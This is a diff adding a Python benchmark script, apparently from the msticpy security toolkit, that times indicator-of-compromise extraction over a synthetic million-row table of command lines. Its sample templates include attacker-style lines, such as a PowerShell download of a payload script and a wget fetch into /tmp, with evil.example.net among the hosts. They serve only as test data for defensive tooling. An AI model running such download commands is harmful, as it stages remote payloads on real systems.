@@ -0,0 +1,105 @@
+# -------------------------------------------------------------------------
+# Copyright (c) Microsoft Corporation. All rights reserved.
+# Licensed under the MIT License. See License.txt in the project root for
+# license information.
+# --------------------------------------------------------------------------
+"""
+Benchmark IoCExtract DataFrame extraction.
+
+Builds a synthetic command-line DataFrame (1M rows by default) from a
+pool of distinct command lines and reports rows/sec for
+`IoCExtract.extract_df`. Use `--check` to also verify the results
+against a per-string scan for a sample of rows.
+
+Example
+-------
+python tools/bench_iocextract.py --rows 1000000 --distinct 20000 --n-jobs 4
+
+"""
+import argparse
+import random
+import time
+
+import pandas as pd
+
+from msticpy.sectools.iocextract import IoCExtract
+
+__author__ = "Ian Hellen"
+
+_CMD_TEMPLATES = [
+    r"c:\windows\system32\cmd.exe /c ping {ip} -n {num}",
+    r"powershell.exe -c iwr https://{host}/payload{num}.ps1 -outfile c:\temp\p{num}.ps1",
+    r"curl -s 'http://{host}/api?q={num}&ip={ip}'",
+    r"certutil -hashfile c:\users\u{num}\doc.exe SHA256 {sha256}",
+    r"/usr/bin/wget -q {host}/x{num} -O /tmp/x{num}",
+    r"svchost.exe -k netsvcs -p -s Schedule {md5}",
+]
+_HOSTS = ["contoso.com", "www.microsoft.com", "evil.example.net", "cdn.bing.com"]
+
+
+def _random_hex(length: int) -> str:
+    return "".join(random.choice("0123456789abcdef") for _ in range(length))
+
+
+def _make_commands(distinct: int):
+    return [
+        random.choice(_CMD_TEMPLATES).format(
+            ip=".".join(str(random.randint(1, 254)) for _ in range(4)),
+            host=random.choice(_HOSTS),
+            num=idx,
+            md5=_random_hex(32),
+            sha256=_random_hex(64),
+        )
+        for idx in range(distinct)
+    ]
+
+
+def _check_sample(ioc_extract: IoCExtract, data: pd.DataFrame, result: pd.DataFrame):
+    sample = data.sample(min(len(data), 1000), random_state=1)
+    ioc_types = ioc_extract._get_ioc_types_to_use(None, False)
+    expected = sorted(
+        (ioc_type, obs, idx)
+        for idx, cmd in sample["CommandLine"].items()
+        for ioc_type, observables in ioc_extract.extract(
+            cmd, ioc_types=ioc_types
+        ).items()
+        for obs in observables
+    )
+    actual = sorted(
+        result[result["SourceIndex"].isin(sample.index)][
+            ["IoCType", "Observable", "SourceIndex"]
+        ].itertuples(index=False, name=None)
+    )
+    print("Sample check:", "OK" if actual == expected else "MISMATCH")
+
+
+def _run_benchmark(rows: int, distinct: int, check: bool, n_jobs: int = 1):
+    random.seed(0)
+    commands = _make_commands(distinct)
+    data = pd.DataFrame(
+        {"CommandLine": random.choices(commands, k=rows)}  # nosec
+    )
+    ioc_extract = IoCExtract()
+
+    start = time.perf_counter()
+    result = ioc_extract.extract_df(
+        data=data, columns=["CommandLine"], n_jobs=n_jobs
+    )
+    elapsed = time.perf_counter() - start
+    print(f"{rows:,} rows ({distinct:,} distinct) -> {len(result):,} observables")
+    print(
+        f"extract_df (n_jobs={n_jobs}): {elapsed:.2f} sec,",
+        f"{rows / elapsed:,.0f} rows/sec",
+    )
+    if check:
+        _check_sample(ioc_extract, data, result)
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[1])
+    parser.add_argument("--rows", type=int, default=1_000_000)
+    parser.add_argument("--distinct", type=int, default=20_000)
+    parser.add_argument("--n-jobs", type=int, default=1)
+    parser.add_argument("--check", action="store_true")
+    args = parser.parse_args()
+    _run_benchmark(args.rows, args.distinct, args.check, args.n_jobs)